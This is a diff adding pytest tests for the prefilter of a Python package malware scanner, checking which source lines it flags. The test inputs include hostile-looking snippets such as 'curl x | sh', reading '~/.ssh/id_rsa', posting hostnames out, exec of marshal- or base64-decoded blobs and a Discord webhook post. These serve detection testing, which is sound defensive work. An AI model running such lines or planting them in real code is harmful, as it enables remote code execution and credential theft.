@@ -1,0 +1,143 @@
+"""The package-mode prefilter: where it sends the AST pass, located in bytes (issue 16)."""
+
+from __future__ import annotations
+
+import pytest
+
+from caplet._scan._prefilter import _FOCUS_FROM, Need, Prefilter
+
+
+@pytest.fixture(scope="module")
+def prefilter() -> Prefilter:
+    return Prefilter()
+
+
+def _line_of(text: str, needle: str) -> int:
+    return text[: text.index(needle)].count("\n") + 1
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "x = 1\n",
+        "nom = 'é' * 3  # two bytes a character\n",
+        "emoji = '🐍🐍🐍'  # four bytes a character\n",
+        "z = '\u202e'\n",
+    ],
+)
+def test_focus_lines_count_characters_not_bytes(prefilter: Prefilter, before: str) -> None:
+    # The locators run over the UTF-8 bytes; a line is a line whatever precedes it.
+    text = before * 5 + "import marshal\nexec(marshal.loads(blob))\n" + before
+    need = prefilter.check(text)
+    assert need == frozenset({_line_of(text, "exec(marshal")})
+
+
+def test_a_lone_surrogate_does_not_break_the_focus(prefilter: Prefilter) -> None:
+    # scan_source may be handed a str that is not valid UTF-8.
+    text = "s = '\udcff'\nimport marshal\nexec(marshal.loads(blob))\n"
+    assert prefilter.check(text) == frozenset({3})
+    assert prefilter.check_text(text) == (frozenset({3}), False)
+
+
+def test_a_large_file_is_visited_around_every_hit(prefilter: Prefilter) -> None:
+    filler = "".join(f"value_{i} = {i}\n" for i in range(_FOCUS_FROM // 12))
+    text = (
+        "import socket, subprocess\n"
+        + filler
+        + "data = socket.create_connection(('h', 1)).recv(9)\n"
+        + filler
+        + "subprocess.Popen(data)\n"
+        + "open('x').write(data)\n"
+    )
+    assert len(text) > _FOCUS_FROM
+    need = prefilter.check(text)
+    assert isinstance(need, frozenset)
+    for needle in ("import socket", ".recv(9)", "subprocess.Popen", ".write(data)"):
+        assert _line_of(text, needle) in need, needle
+    assert len(need) < 10
+
+
+def test_located_patterns_give_every_line_the_alternation_gives(prefilter: Prefilter) -> None:
+    # One pattern at a time (only those the set found) against one alternation of all:
+    # a match of one pattern can no longer hide another's, so the lines are a superset.
+    text = "".join(
+        [
+            "import socket\n",
+            "h = socket.gethostname(); requests.post(URL, data=h)\n",
+            "os.system('curl x | sh')  # wget too\n",
+            "copy2(src, 'a.exe'); os.startfile('a.exe')\n",
+            "path = '~/.ssh/id_rsa'\n",
+        ]
+        * 400
+    )
+    encoded = text.encode()
+    matched = prefilter._set.Match(encoded) or []
+    every = prefilter.hit_lines(text, 10_000)
+    located = prefilter.hit_lines(text, 10_000, matched, encoded)
+    assert every is not None
+    assert located is not None
+    assert every <= located
+    assert len(located) == 2000
+
+
+def test_a_file_without_threat_tokens_needs_nothing(prefilter: Prefilter) -> None:
+    text = "def add(a, b):\n    return a + b\n" * 2000
+    assert prefilter.check(text) is Need.NOTHING
+
+
+def test_a_name_bound_on_a_hit_line_is_followed_to_its_uses(prefilter: Prefilter) -> None:
+    text = (
+        "import builtins\n"
+        "ns = vars(builtins)\n"
+        "\n"
+        "def run(code, key):\n"
+        "    return ns[key](code)\n"
+        "\n"
+        "unrelated = 1\n"
+    )
+    assert prefilter.check(text) == frozenset({2, 5})
+
+
+@pytest.mark.parametrize(
+    "binding",
+    [
+        "x = 1; ns = vars(builtins)",
+        "x = ns = vars(builtins)",
+        "if (ns := vars(builtins)):",
+        "(x, ns) = 1, vars(builtins)",
+        "ns" + " " * 300 + "= vars(builtins)",
+        "with vars(builtins) as ns:",
+    ],
+)
+def test_every_name_a_hit_line_may_bind_is_followed(prefilter: Prefilter, binding: str) -> None:
+    # not only the first target at the start of the line: a second statement, a second
+    # target, :=, a target list, padding, a with's as
+    text = (
+        f"import builtins\n{binding}\n    pass\n\ndef run(code, key):\n    return ns[key](code)\n"
+    )
+    need = prefilter.check(text)
+    assert isinstance(need, frozenset)
+    assert {2, 6} <= need
+
+
+def test_a_hit_line_binding_too_many_names_makes_the_whole_file_visited(
+    prefilter: Prefilter,
+) -> None:
+    # a minified line: following each of its names would cost a pass over the file each
+    names = "; ".join(f"v{i} = vars(builtins)" for i in range(40))
+    assert prefilter.check(f"import builtins\n{names}\n") is Need.FULL
+
+
+def test_a_name_used_everywhere_makes_the_whole_file_visited(prefilter: Prefilter) -> None:
+    text = "import builtins\nx = vars(builtins)\n" + "print(x)\n" * 100
+    assert prefilter.check(text) is Need.FULL
+
+
+def test_each_set_is_asked_and_the_answers_numbered_as_one(prefilter: Prefilter) -> None:
+    # solo patterns and pairs live in two RE2 sets; a hit of each keeps its own index
+    text = "exec(b64decode(x)); post('https://discord.com/api/webhooks/1/a')"
+    assert prefilter.engine_answers(text)
+    assert not prefilter.engine_answers("exec(b64decode(x))")  # the solo set finds nothing
+    found = prefilter._set.Match(text.encode())
+    assert any(i < prefilter._solo for i in found)
+    assert any(prefilter._solo <= i < prefilter._auditor for i in found)
